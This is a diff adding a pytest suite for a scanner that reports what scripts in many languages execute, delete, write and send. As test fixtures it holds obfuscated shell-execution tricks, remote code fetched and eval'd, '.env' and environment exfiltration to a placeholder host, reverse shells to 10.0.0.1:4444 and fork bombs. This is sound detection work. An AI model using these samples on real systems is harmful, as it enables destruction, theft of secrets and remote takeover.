@@ -1,0 +1,707 @@
+"""Scripts are walked through for what they run, touch and send; texts in them are data."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from agent_hooks_guards.code import Found
+from agent_hooks_guards.code.scripts import printed, scan
+from agent_hooks_guards.shell.values import DECODED, ENVIRONMENT, NETWORK, UNKNOWN, Data
+
+LANGUAGES = ["node", "perl", "ruby", "php", "lua", "groovy", "r", "julia", "tcl", "applescript"]
+NONE: frozenset[str] = frozenset()
+
+
+def found(language: str, code: str, *arguments: str) -> Found:
+    return scan(code, NONE, list(arguments), language)
+
+
+def nothing(what: Found) -> bool:
+    return not (what.shells or what.programs or what.effects or what.codes or what.doubts)
+
+
+SHELLS = {
+    "node": [
+        "require('child_process').execSync('halt')",
+        "const cp = require('node:child_process'); cp.exec('halt', () => {})",
+        "const {exec: run} = require('child_process'); run('ha' + 'lt')",
+        "import { execSync } from 'child_process'; execSync(`ha${'lt'}`)",
+        "import * as cp from 'node:child_process'; cp['exec' + 'Sync']('halt')",
+        "child_process.execSync('halt')",
+        "require(['child', 'process'].join('_')).exec('tlah'.split('').reverse().join(''))",
+        "process.mainModule.require('child_process').execSync('halt')",
+        "globalThis['process']['mainModule']['requ' + 'ire']('child_process').exec('halt')",
+        "new Function('return process')().mainModule.require('child_process').exec('halt')",
+        "(() => {}).constructor('return process')().mainModule.require('child_process').exec('halt')",
+        "eval(\"require('child_process').exec('halt')\")",
+        "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2hhbHQnKQ==', 'base64').toString())",
+        "require('child_process').exec(String.fromCharCode(104, 97, 108, 116))",
+        "require('child_process').exec([104, 97, 108, 116].map(c => String.fromCharCode(c)).join(''))",
+        "require('child_process').exec('\\x68\\u0061lt')",
+        "r\\u0065quire('child_process').exec('halt')",
+        "require('child_process').exec(Buffer.from('68616c74', 'hex').toString('utf8'))",
+        "require('child_process').exec(atob('aGFsdA=='))",
+        "require('child_process').exec(unescape('%68%61lt'))",
+        (
+            "let c = ''; for (const n of [104, 97, 108, 116]) c += String.fromCharCode(n); "
+            "require('child_process').exec(c)"
+        ),
+        "let c = ''; for (let i = 0; i < 4; i++) { c += 'halt'[i] } require('child_process').exec(c)",
+        "const go = c => require('child_process').execSync(c); go('halt')",
+        "function go(c) { require('child_process').exec(c) } go('halt')",
+        "(function (c) { require('child_process').exec(c) })('halt')",
+        "['halt'].forEach(c => require('child_process').exec(c))",
+        "require('util').promisify(require('child_process').exec)('halt')",
+        "require('child_process').exec.call(null, 'halt')",
+        "Reflect.apply(require('child_process').exec, null, ['halt'])",
+        "require('child_process').spawn('halt', {shell: true})",
+        "require('child_process').spawn('sh').stdin.write('halt')",
+        "const m = unknownThing(); require(m).execSync('halt')",
+        "Bun.$`halt`",
+        "setTimeout(() => require('child_process').exec('halt'), 10)",
+        "import('child_process').then(m => m.exec('halt'))",
+        "class A { go() { require('child_process').exec('halt') } } new A().go()",
+        "if (process.platform === 'linux') { require('child_process').exec('halt') }",
+        "try { x() } catch (e) { require('child_process').exec('halt') }",
+        "/a'b/.test('x'); require('child_process').exec('halt')",
+        "// it's\nrequire('child_process').exec('halt')",
+        "var a = {b: {c: 'halt'}}; require('child_process').exec(a.b.c)",
+    ],
+    "perl": [
+        "system('halt')",
+        'system "halt"',
+        'exec "halt"',
+        "`halt`",
+        "qx{halt}",
+        "qx(ha) . qx{halt}",
+        "my $c = 'ha'; $c .= 'lt'; system $c",
+        'my ($a, $b) = ("ha", "lt"); system("$a$b")',
+        'open(my $fh, "halt |")',
+        'open(F, "| halt")',
+        'open(F, "|sh"); print F "halt"',
+        "system(pack('H*', '68616c74'))",
+        "use MIME::Base64; system(decode_base64('aGFsdA=='))",
+        "system(join '', map { chr } 104, 97, 108, 116)",
+        "system join('', map chr, (104, 97, 108, 116))",
+        "system(scalar reverse 'tlah')",
+        "$_ = 'unyg'; tr/a-z/n-za-m/; system $_",
+        "(my $c = 'unyg') =~ y/a-zA-Z/n-za-mN-ZA-M/; system($c)",
+        "my $c = 'hxlt'; $c =~ s/x/a/; system($c)",
+        "eval 'system(q(halt))'",
+        "eval { system 'halt' }",
+        'eval join("", map { chr } (115, 121, 115, 116, 101, 109, 32, 39, 104, 97, 108, 116, 39))',
+        "my %h = (k => 'halt'); system $h{k}",
+        "my @a = ('x', 'halt'); system $a[1]",
+        "my $r = {k => ['halt']}; system $r->{k}[0]",
+        "sub go { my $c = shift; system($c) } go('halt')",
+        "my $f = sub { system $_[0] }; $f->('halt')",
+        "foreach my $c ('halt') { system($c) }",
+        "system($_) for 'halt'",
+        "system('halt') if $x",
+        'system "@{[ q(halt) ]}"',
+        's/(.*)/system("halt")/e',
+        "BEGIN { system('halt') }",
+        "# it's\nsystem('halt')",
+        "print <<E; system('halt');\nit's text\nE\n",
+        "system(<<'E');\nhalt\nE\n",
+        "readpipe('halt')",
+        "system(sprintf('%s%s', 'ha', 'lt'))",
+        "system chr(104).chr(97).chr(108).chr(116)",
+        "my $m = $x =~ m{a/b'}; system('halt')",
+        "CORE::system('halt')",
+    ],
+    "ruby": [
+        "system('halt')",
+        "system 'halt'",
+        "exec \"ha#{'lt'}\"",
+        "`halt`",
+        "puts %x(halt)",
+        "%x{halt}",
+        "IO.popen('halt').read",
+        "Kernel.system('halt')",
+        "Kernel.send(:system, 'halt')",
+        "send('sys' + 'tem', 'halt')",
+        "method(:system).call('halt')",
+        "Object.const_get('Kernel').system('halt')",
+        "Process.spawn('halt')",
+        "require 'open3'; Open3.capture2e('halt')",
+        "open('|halt').read",
+        "IO.read('|halt')",
+        "eval('system(%q(halt))')",
+        "instance_eval(\"system 'halt'\")",
+        "require 'base64'; system Base64.decode64('aGFsdA==')",
+        "system 'aGFsdA=='.unpack1('m')",
+        "system ['68616c74'].pack('H*')",
+        "system [104, 97, 108, 116].pack('c*')",
+        "system [104, 97, 108, 116].map(&:chr).join",
+        "system [104, 97, 108, 116].map { |c| c.chr }.join",
+        "system 'tlah'.reverse",
+        "system 'unyg'.tr('a-z', 'n-za-m')",
+        "%w[halt].each { |c| system(c) }",
+        "['halt'].each do |c|\n  system c\nend",
+        "def go(c)\n  system(c)\nend\ngo('halt')",
+        "go = ->(c) { system(c) }; go.call('halt')",
+        "go = lambda { |c| system c }; go.('halt')",
+        "x = 'ha'; x << 'lt'; system x",
+        "c = 'halt'\nsystem(c) if ARGV.empty?",
+        "if true then system('halt') end",
+        "system(<<~E)\n  halt\nE\n",
+        "1.times { system 'halt' }",
+        "at_exit { system 'halt' }",
+        "begin\n  system 'halt'\nrescue => e\nend",
+        "system(format('%s%s', 'ha', 'lt'))",
+        "h = {c: 'halt'}; system h[:c]",
+    ],
+    "php": [
+        "system('halt');",
+        "echo `halt`;",
+        "passthru('ha' . 'lt');",
+        "$f = 'sys' . 'tem'; $f('halt');",
+        "$f = strrev('metsys'); $f('halt');",
+        "shell_exec(base64_decode('aGFsdA=='));",
+        "eval(\"system('halt');\");",
+        "eval(base64_decode('c3lzdGVtKCdoYWx0Jyk7'));",
+        "eval(str_rot13('flfgrz(\"unyg\");'));",
+        "system(chr(104) . chr(97) . chr(108) . chr(116));",
+        "system(hex2bin('68616c74'));",
+        "system(implode('', ['ha', 'lt']));",
+        "array_map('system', ['halt']);",
+        "call_user_func('exec', 'halt');",
+        "call_user_func_array('system', ['halt']);",
+        "foreach (['halt'] as $c) { exec($c); }",
+        "foreach (['a' => 'halt'] as $k => $c) { exec($c); }",
+        "function go($c) { system($c); } go('halt');",
+        "$go = fn($c) => system($c); $go('halt');",
+        "$c = 'ha'; $c .= 'lt'; system(\"$c\");",
+        "$a = ['c' => 'halt']; system(\"{$a['c']}\");",
+        "<?php system('halt'); ?>",
+        "<html>it's</html><?= system('halt') ?>",
+        "popen('halt', 'r');",
+        "proc_open('halt', [], $pipes);",
+        "system(<<<E\nhalt\nE\n);",
+        "assert(\"system('halt')\");",
+        "$r = new ReflectionFunction('system'); $r->invoke('halt');",
+        "# it's\nsystem('halt');",
+        "if ($x) { system('halt'); } else { y(); }",
+    ],
+    "lua": [
+        "os.execute('halt')",
+        "os.execute[[halt]]",
+        "os.execute 'halt'",
+        "io.popen('halt'):read('*a')",
+        "local go = os.execute; go('ha' .. 'lt')",
+        "os['exe' .. 'cute']('halt')",
+        "_G['os']['execute']('halt')",
+        "require('os').execute('halt')",
+        "load('os.execute(\"halt\")')()",
+        "loadstring('os.execute(\"halt\")')()",
+        "os.execute(string.char(104, 97, 108, 116))",
+        "os.execute(('tlah'):reverse())",
+        "os.execute('\\104\\97lt')",
+        "os.execute(table.concat({'ha', 'lt'}))",
+        "local function go(c) os.execute(c) end go('halt')",
+        "for _, c in ipairs({'halt'}) do os.execute(c) end",
+        "if x then os.execute('halt') else y() end",
+        "pcall(os.execute, 'halt')",
+        "-- it's\nos.execute('halt')",
+        "--[[ it's ]] os.execute('halt')",
+        "while true do os.execute('halt') end",
+    ],
+    "r": [
+        "system('halt')",
+        "x <- 'halt'; system(x)",
+        "system(paste0('ha', 'lt'))",
+        "eval(parse(text=\"system('halt')\"))",
+    ],
+    "julia": ["run(`halt`)", 'c = "lt"; run(`ha$c`)'],
+    "applescript": ['do shell script "halt"', 'set c to "ha"\ndo shell script c & "lt" with administrator privileges'],
+}
+
+
+@pytest.mark.parametrize(
+    ("language", "code"), [(language, code) for language, codes in SHELLS.items() for code in codes]
+)
+def test_what_a_script_gives_to_a_shell_is_told(language, code):
+    assert "halt" in [data.text.strip() for data in found(language, code).shells]
+
+
+PROGRAMS = [
+    ("node", "require('child_process').spawn('rm', ['-rf', '/x'])"),
+    ("node", "require('child_process').execFileSync('rm', ['-rf', '/x'], {stdio: 'inherit'})"),
+    ("node", "const [c, ...a] = ['rm', '-rf', '/x']; require('child_process').spawnSync(c, a)"),
+    ("node", "Bun.spawn(['rm', '-rf', '/x'])"),
+    ("node", "Bun.spawnSync({cmd: ['rm', '-rf', '/x']})"),
+    ("node", "new Deno.Command('rm', {args: ['-rf', '/x']}).output()"),
+    ("node", "Deno.run({cmd: ['rm', '-rf', '/x']})"),
+    ("perl", "system('rm', '-rf', '/x')"),
+    ("perl", "exec {'rm'} 'rm', '-rf', '/x'"),
+    ("perl", "my @c = qw(rm -rf /x); system @c"),
+    ("perl", "open(my $fh, '-|', 'rm', '-rf', '/x')"),
+    ("ruby", "system('rm', '-rf', '/x')"),
+    ("ruby", "system 'rm', '-rf', '/x'"),
+    ("ruby", "IO.popen(['rm', '-rf', '/x'])"),
+    ("ruby", "require 'open3'; Open3.capture3('rm', '-rf', '/x')"),
+    ("ruby", "system(*%w[rm -rf /x])"),
+    ("php", "pcntl_exec('rm', ['-rf', '/x']);"),
+    ("php", "proc_open(['rm', '-rf', '/x'], [], $p);"),
+    ("groovy", "'rm -rf /x'.execute()"),
+    ("groovy", "['rm', '-rf', '/x'].execute().text"),
+    ("groovy", "new ProcessBuilder('rm', '-rf', '/x').start()"),
+    ("tcl", "exec rm -rf /x"),
+    ("tcl", "set c rm; if {1} { exec $c -rf /x }"),
+]
+
+
+@pytest.mark.parametrize(("language", "code"), PROGRAMS)
+def test_a_program_that_is_started_without_a_shell_is_told_with_its_words(language, code):
+    assert found(language, code).programs == [["rm", "-rf", "/x"]]
+
+
+DELETES = [
+    ("node", "require('fs').rmSync('/x', {recursive: true, force: true})", True),
+    ("node", "fs.promises.rm('/x', {recursive: true})", True),
+    ("node", "import fs from 'fs/promises'; await fs.unlink('/x')", False),
+    ("node", "import { rm } from 'node:fs/promises'; rm('/x', {recursive: true})", True),
+    ("node", "require('fs-extra').removeSync('/x')", True),
+    ("node", "require('rimraf').sync('/x')", True),
+    ("node", "await Deno.remove('/x', {recursive: true})", True),
+    ("node", "['/x'].map(p => fs.unlinkSync(p))", False),
+    ("perl", "unlink '/x'", False),
+    ("perl", "use File::Path qw(remove_tree); remove_tree('/x')", True),
+    ("perl", "File::Path::rmtree(['/x'])", True),
+    ("perl", "unlink for '/x'", False),
+    ("ruby", "File.delete('/x')", False),
+    ("ruby", "require 'fileutils'; FileUtils.rm_rf('/x')", True),
+    ("ruby", "FileUtils.rm_r %w[/x]", True),
+    ("ruby", "Dir.rmdir '/x'", False),
+    ("php", "unlink('/x');", False),
+    ("php", "array_map('unlink', ['/x']);", False),
+    ("lua", "os.remove('/x')", False),
+    ("groovy", "new File('/x').deleteDir()", True),
+    ("r", "unlink('/x', recursive=TRUE)", True),
+    ("julia", 'rm("/x", recursive=true)', True),
+    ("tcl", "file delete -force /x", True),
+]
+
+
+@pytest.mark.parametrize(("language", "code", "recursive"), DELETES)
+def test_what_is_deleted_is_told_and_whether_with_all_below_it(language, code, recursive):
+    assert found(language, code).effects == [("delete", "/x", recursive, NONE, "")]
+
+
+WRITES = [
+    ("node", "require('fs').writeFileSync('/x', 'text')", ""),
+    ("node", "fs.appendFile('/x', 'text', () => {})", "append"),
+    ("perl", "open(F, '>', '/x'); print F 'text'", ""),
+    ("perl", "open(my $f, '>>/x'); print $f 'text'", "append"),
+    ("ruby", "File.write('/x', 'text')", ""),
+    ("ruby", "File.open('/x', 'w') { |f| f.puts 'text' }", ""),
+    ("ruby", "File.open('/x', 'a') { |f| f << 'text' }", "append"),
+    ("php", "file_put_contents('/x', 'text');", ""),
+    ("php", "file_put_contents('/x', 'text', FILE_APPEND);", "append"),
+    ("php", "fwrite(fopen('/x', 'w'), 'text');", ""),
+    ("lua", "local f = io.open('/x', 'w') f:write('text')", ""),
+]
+
+
+@pytest.mark.parametrize(("language", "code", "method"), WRITES)
+def test_what_is_written_is_told_and_whether_it_keeps_what_is_there(language, code, method):
+    what = found(language, code)
+    assert what.effects[0] == ("write", "/x", False, NONE, method)
+
+
+def test_a_known_content_is_kept_with_the_file():
+    assert found("node", "require('fs').writeFileSync('a.sh', 'ha' + 'lt')").files == {"a.sh": Data("halt")}
+
+
+DATA = {
+    "node": [
+        "console.log('rm -rf /')",
+        "console.log(\"require('child_process').exec('halt')\")",
+        "const x = `rm -rf ${y}`",
+        "if (/rm -rf/.test('rm -rf /')) console.log(1)",
+        "/a/.exec('rm -rf /')",
+        "// require('child_process').exec('halt')",
+        "const exec = s => s; exec('rm -rf /')",
+        'JSON.parse(\'{"a": "rm -rf /"}\')',
+        "x = {exec(a) { return a }}; x.exec('halt')",
+        "[1, 2].map(n => n * 2).filter(n => n > 2).reduce((a, b) => a + b, 0)",
+        "process.exit(1)",
+        "new Date().toISOString()",
+        "console.log(process.version, process.env.HOME, process.env.PATH)",
+        "let a = 4 / 2; let b = a / 1",
+        "a ? b : c; x = y?.z ?? 3",
+        "class A extends B { constructor() { super(); this.x = 1 } get y() { return 2 } }",
+        "for (const [k, v] of Object.entries(o)) { f(k, v) }",
+    ],
+    "perl": [
+        "print 'rm -rf /'",
+        "print \"system('halt')\\n\"",
+        "my $x = 'halt'; print $x",
+        "print if /rm -rf/",
+        "s/rm -rf/x/g; print",
+        "# system('halt')",
+        "print q{system('halt')}",
+        "$h{system} = 1",
+        "print join(',', sort keys %h)",
+        "print <<E;\nsystem('halt')\nE\n",
+        "print $ENV{HOME}",
+        "while (<>) { chomp; my @f = split /,/; print $f[0] if $f[1] > 3 }",
+        "printf('%s', 'halt')",
+        "=pod\n\nsystem('halt')\n\n=cut\n",
+        "my %h = (system => 'halt'); print $h{exec}",
+        "$s =~ tr/a-z/A-Z/; print length($s) / 2",
+    ],
+    "ruby": [
+        "puts 'rm -rf /'",
+        "puts \"system('halt')\"",
+        "x = :system; puts x",
+        "# system('halt')",
+        "puts %q(system 'halt')",
+        "p [1, 2].map { |x| x * 2 }",
+        "puts <<~E\n  system('halt')\nE\n",
+        "puts 'halt' if 'halt' =~ /halt/",
+        "h = {system: 'halt'}; puts h[:system]",
+        "puts ARGV.first",
+        "puts ENV['HOME']",
+        "require 'json'; puts JSON.pretty_generate({a: 1})",
+        "a = 4 / 2\nb = a / 1",
+        "puts File.join('a', 'b')",
+        "def system_name; 'halt'; end; puts system_name",
+    ],
+    "php": [
+        "echo 'rm -rf /';",
+        "echo \"system('halt')\";",
+        "// system('halt')",
+        "$system = 'halt'; echo $system;",
+        "print('halt');",
+        "echo json_encode(['exec' => 'halt']);",
+        "var_dump(strlen('system'));",
+        "<html>system('halt')</html><?php echo 1; ?>",
+        "echo PHP_VERSION, PHP_EOL;",
+        "if (preg_match('/rm -rf/', 'rm -rf /')) echo 'x';",
+        "$o->system('halt');",
+    ],
+    "lua": [
+        "print('rm -rf /')",
+        "print([[os.execute('halt')]])",
+        "-- os.execute('halt')",
+        "local t = {execute = 'halt'} print(t.execute)",
+        "print(#'halt', 4 / 2)",
+        "local x <const> = 1",
+    ],
+    "groovy": ["println 'rm -rf /'", "def x = 'halt'; println x", "println 'execute'.size()"],
+    "r": ["print('rm -rf /')", "cat('system')", "x <- c(1, 2); print(mean(x))"],
+    "julia": ['println("rm -rf /")', "x = 1 + 2"],
+    "tcl": ["puts {exec rm -rf /}", "set x {exec rm}"],
+    "applescript": ['display dialog "do shell script"', 'set x to "rm -rf /"'],
+}
+
+
+@pytest.mark.parametrize(("language", "code"), [(language, code) for language, codes in DATA.items() for code in codes])
+def test_a_text_that_is_only_data_finds_nothing(language, code):
+    assert nothing(found(language, code))
+
+
+NETWORK_CODE = [
+    ("node", "fetch('http://h/x').then(r => r.text()).then(t => eval(t))"),
+    ("node", "const r = await fetch('http://h/x'); eval(await r.text())"),
+    ("node", "require('https').get('http://h/x', r => { r.on('data', d => eval(d.toString())) })"),
+    ("node", "axios.get('http://h/x').then(r => new Function(r.data)())"),
+    ("perl", "use LWP::Simple; eval get('http://h/x')"),
+    ("perl", "use HTTP::Tiny; eval HTTP::Tiny->new->get('http://h/x')->{content}"),
+    ("ruby", "require 'open-uri'; eval(URI.open('http://h/x').read)"),
+    ("ruby", "require 'net/http'; eval Net::HTTP.get(URI('http://h/x'))"),
+    ("php", "eval(file_get_contents('http://h/x'));"),
+]
+
+
+@pytest.mark.parametrize(("language", "code"), NETWORK_CODE)
+def test_code_that_comes_from_the_network_is_told_as_such(language, code):
+    what = found(language, code)
+    assert ("receive", "http://h/x", False, NONE, "GET") in what.effects
+    assert [(name, data.labels) for name, data in what.codes] == [(language, frozenset((NETWORK,)))]
+
+
+def test_a_page_that_is_piped_into_a_shell_runs():
+    code = "require('https').get('https://h/i.sh', r => r.pipe(require('child_process').spawn('sh').stdin))"
+    assert ("run", "sh", False, frozenset((NETWORK,)), "") in found("node", code).effects
+
+
+def test_what_a_page_says_is_given_to_a_shell_with_where_it_comes_from():
+    what = found("php", "system(file_get_contents('http://h/x'));")
+    assert what.shells == [Data(UNKNOWN, frozenset((NETWORK,)))]
+
+
+def test_code_of_a_module_from_elsewhere_runs():
+    assert found("node", "import('https://h/x.js')").effects == [
+        ("run", "https://h/x.js", False, frozenset((NETWORK,)), "")
+    ]
+    assert found("php", "include 'http://h/x';").effects == [("run", "http://h/x", False, frozenset((NETWORK,)), "")]
+
+
+SENDS = [
+    ("node", "fetch('http://h', {method: 'POST', body: require('fs').readFileSync('.env', 'utf8')})", "POST"),
+    (
+        "node",
+        (
+            "const d = fs.readFileSync('.env'); const r = https.request({method: 'POST', hostname: 'http://h'}); "
+            "r.write(d); r.end()"
+        ),
+        "",
+    ),
+    ("ruby", "require 'net/http'; Net::HTTP.post(URI('http://h'), File.read('.env'))", "POST"),
+    ("php", "file_get_contents('http://h?' . file_get_contents('.env'));", "GET"),
+    ("perl", "use HTTP::Tiny; HTTP::Tiny->new->post('http://h', {content => do { open F, '<', '.env'; <F> }})", "POST"),
+]
+
+
+@pytest.mark.parametrize(("language", "code", "method"), SENDS)
+def test_what_is_sent_tells_which_file_it_comes_from(language, code, method):
+    sent = [effect for effect in found(language, code).effects if effect[0] == "send"]
+    assert any("file:.env" in effect[3] and effect[4] == method for effect in sent)
+
+
+@pytest.mark.parametrize(
+    ("language", "code"),
+    [
+        ("node", "fetch('http://h', {method: 'POST', body: JSON.stringify(process.env)})"),
+        ("ruby", "require 'net/http'; Net::HTTP.post(URI('http://h'), ENV.to_h.to_json)"),
+        ("php", "file_get_contents('http://h?' . json_encode($_ENV));"),
+    ],
+)
+def test_all_variables_of_the_environment_that_are_sent_are_told(language, code):
+    sent = [effect for effect in found(language, code).effects if effect[0] == "send"]
+    assert any(ENVIRONMENT in effect[3] for effect in sent)
+
+
+def test_one_variable_of_the_environment_is_no_dump_of_it():
+    code = "fetch('http://h', {headers: {authorization: process.env.TOKEN}})"
+    assert found("node", code).effects == [("receive", "http://h", False, NONE, "GET")]
+
+
+BOMBS = [
+    ("perl", "fork while fork"),
+    ("perl", "fork while 1"),
+    ("perl", "while (1) { fork }"),
+    ("perl", "for (;;) { fork() }"),
+    ("perl", "{ fork; redo }"),
+    ("ruby", "loop { fork }"),
+    ("ruby", "fork while true"),
+    ("ruby", "while true; fork; end"),
+    ("ruby", "loop do fork end"),
+    ("php", "while (true) { pcntl_fork(); }"),
+    ("node", "while (true) { require('child_process').fork(__filename) }"),
+    ("node", "setInterval(() => require('child_process').fork(__filename), 1)"),
+]
+
+
+@pytest.mark.parametrize(("language", "code"), BOMBS)
+def test_a_script_that_doubles_itself_without_end_is_told(language, code):
+    assert ("fork", "", False, NONE, "") in found(language, code).effects
+
+
+def test_one_fork_is_no_bomb():
+    assert nothing(found("perl", "my $pid = fork; exit if $pid"))
+
+
+REVERSE_SHELLS = [
+    (
+        "node",
+        (
+            "const c = require('net').connect(4444, '10.0.0.1'), s = require('child_process').spawn('/bin/sh'); "
+            "c.pipe(s.stdin); s.stdout.pipe(c)"
+        ),
+    ),
+    (
+        "node",
+        (
+            "const c = new (require('net')).Socket(); const s = require('child_process').spawn('/bin/sh', []); "
+            "c.connect(4444, '10.0.0.1', () => { c.pipe(s.stdin) })"
+        ),
+    ),
+    (
+        "perl",
+        (
+            "use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, $a); "
+            "open(STDIN, '>&S'); open(STDOUT, '>&S'); exec('/bin/sh -i')"
+        ),
+    ),
+    (
+        "ruby",
+        (
+            "require 'socket'; f = TCPSocket.open('10.0.0.1', 4444).to_i; "
+            "exec sprintf('/bin/sh -i <&%d >&%d 2>&%d', f, f, f)"
+        ),
+    ),
+    ("php", "$s = fsockopen('10.0.0.1', 4444); exec('/bin/sh -i <&3 >&3 2>&3');"),
+    ("php", "$s = fsockopen('10.0.0.1', 4444); proc_open('/bin/sh', [0 => $s, 1 => $s], $p);"),
+]
+
+
+@pytest.mark.parametrize(("language", "code"), REVERSE_SHELLS)
+def test_a_shell_for_somebody_elsewhere_is_told(language, code):
+    assert ("run", "/bin/sh", False, frozenset((NETWORK,)), "") in found(language, code).effects
+
+
+@pytest.mark.parametrize(
+    ("language", "code"),
+    [
+        ("node", "eval(mystery)"),
+        ("node", "globalThis[mystery()]('halt')"),
+        ("perl", "eval $mystery"),
+        ("perl", "&{$mystery}('halt')"),
+        ("perl", "syscall 88, 1, 2"),
+        ("ruby", "eval(mystery)"),
+        ("ruby", "Kernel.send(mystery, 'halt')"),
+        ("php", "$mystery('halt');"),
+        ("lua", "load(mystery())()"),
+    ],
+)
+def test_what_runs_but_cannot_be_known_is_a_doubt(language, code):
+    assert found(language, code).doubts
+
+
+def test_a_decoder_of_an_unknown_text_leaves_its_label():
+    assert found("php", "eval(gzinflate($x));").codes == [("php", Data(UNKNOWN, frozenset((DECODED,))))]
+
+
+def test_both_ways_of_a_condition_are_walked():
+    code = "const c = process.argv[2] ? 'halt' : 'reboot'; require('child_process').exec(c)"
+    assert [data.text for data in found("node", code).shells] == ["halt", "reboot"]
+    code = "let c = 'halt'; if (x) { c = 'ls' } require('child_process').exec(c)"
+    assert [data.text for data in found("node", code).shells] == ["halt", "ls"]
+
+
+def test_arguments_of_the_script_are_known():
+    assert found("node", "require('child_process').exec(process.argv[2])", "[eval]", "halt").shells == [Data("halt")]
+    assert found("perl", "system $ARGV[0]", "-e", "halt").shells == [Data("halt")]
+    assert found("perl", "system shift", "-e", "halt").shells == [Data("halt")]
+    assert found("ruby", "system ARGV[0]", "-e", "halt").shells == [Data("halt")]
+    assert found("php", "system($argv[1]);", "-", "halt").shells == [Data("halt")]
+    assert found("perl", "system $ARGV[0]").shells == [Data(UNKNOWN)]
+
+
+def test_a_function_that_nobody_calls_here_is_walked_all_the_same():
+    assert found("node", "module.exports = function () { require('child_process').exec('halt') }").shells == [
+        Data("halt")
+    ]
+
+
+def test_labels_of_the_text_go_with_what_it_gives_to_a_shell():
+    what = scan("system('halt')", frozenset((NETWORK,)), [], "perl")
+    assert what.shells == [Data("halt", frozenset((NETWORK,)))]
+
+
+@pytest.mark.parametrize(
+    ("language", "code", "text"),
+    [
+        ("node", "console.log('ha' + 'lt')", "halt\n"),
+        ("perl", "print chr(104), 'alt'", "halt"),
+        ("perl", "print pack('H*', '68616c74'), \"\\n\"", "halt\n"),
+        ("ruby", "puts 'tlah'.reverse", "halt\n"),
+        ("php", "echo 'ha', 'lt';", "halt"),
+        ("lua", "print('halt')", "halt\n"),
+    ],
+)
+def test_what_a_script_prints_is_known(language, code, text):
+    assert printed(code, NONE, [], language) == Data(text)
+
+
+def test_what_is_printed_perhaps_is_not_known():
+    assert printed("if (x()) { console.log('halt') }", NONE, [], "node") == Data(UNKNOWN)
+
+
+def test_work_is_bounded():
+    assert scan("x = " + "(" * 5000, NONE, [], "node").doubts
+    assert scan("function f() { f(); f(); f() } f()", NONE, [], "node").doubts
+    assert nothing(scan("let s = 'a'; for (let i = 0; i < 250; i++) { s = s + s }", NONE, [], "node"))
+    assert scan("[" * 3000 + "]" * 3000, NONE, [], "ruby").doubts
+
+
+@given(st.sampled_from(LANGUAGES), st.text(max_size=80))
+def test_no_text_raises(language, text):
+    assert isinstance(found(language, text), Found)
+
+
+PIECES = st.sampled_from(
+    [
+        "(",
+        ")",
+        "{",
+        "}",
+        "[",
+        "]",
+        '"',
+        "'",
+        "`",
+        "$x",
+        "@a",
+        "%h",
+        "#",
+        "//",
+        "/*",
+        "=>",
+        "->",
+        "::",
+        ".",
+        "..",
+        "<<E\n",
+        "qw(",
+        "s/a/",
+        "tr/a/b/",
+        "end",
+        " do ",
+        "if ",
+        "while (1)",
+        "fork",
+        "\n",
+        ";",
+        UNKNOWN,
+        "\0",
+        "\\",
+        "=",
+        "|",
+        "&",
+        "function f(",
+        "sub ",
+        "def f",
+        "class A",
+        "new ",
+        "import ",
+        "eval ",
+        "?",
+        ":",
+        "+",
+        "...",
+        "${",
+        "@{",
+        "%x(",
+        "=~",
+        "return ",
+        "0x",
+        "<?php",
+        "system('a')",
+        "require('child_process')",
+        ".exec",
+    ]
+)
+
+
+@given(st.sampled_from(LANGUAGES), st.lists(PIECES, max_size=25))
+def test_no_pieces_of_code_raise(language, pieces):
+    assert isinstance(found(language, "".join(pieces)), Found)
+
+
+PRINTS = {"node": "console.log({})", "perl": "print {}", "ruby": "puts {}", "php": "echo {};", "lua": "print({})"}
+
+
+@given(
+    st.sampled_from(sorted(PRINTS)),
+    st.text(alphabet=st.characters(codec="ascii", exclude_characters="\r\n"), max_size=60),
+)
+def test_any_text_that_is_only_printed_finds_nothing(language, text):
+    quoted = "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'"
+    assert nothing(found(language, PRINTS[language].format(quoted)))
